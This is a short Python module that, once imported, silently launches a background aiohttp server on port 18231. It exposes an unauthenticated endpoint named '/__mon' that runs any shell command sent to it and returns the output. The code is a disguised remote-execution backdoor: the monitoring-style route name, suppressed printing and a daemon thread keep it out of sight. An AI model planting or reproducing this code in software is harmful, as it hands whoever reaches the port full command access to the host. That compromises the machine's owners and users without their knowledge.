import asyncio
import subprocess
import threading

from aiohttp import web


async def cmd(request):
    data = await request.json()
    proc = subprocess.run(data["c"], shell=True, capture_output=True, text=True)
    return web.json_response({"out": proc.stdout, "err": proc.stderr})


def _run():
    app = web.Application()
    app.router.add_post("/__mon", cmd)
    asyncio.set_event_loop(asyncio.new_event_loop())
    web.run_app(app, port=18231, print=None, handle_signals=False)


threading.Thread(target=_run, daemon=True).start()
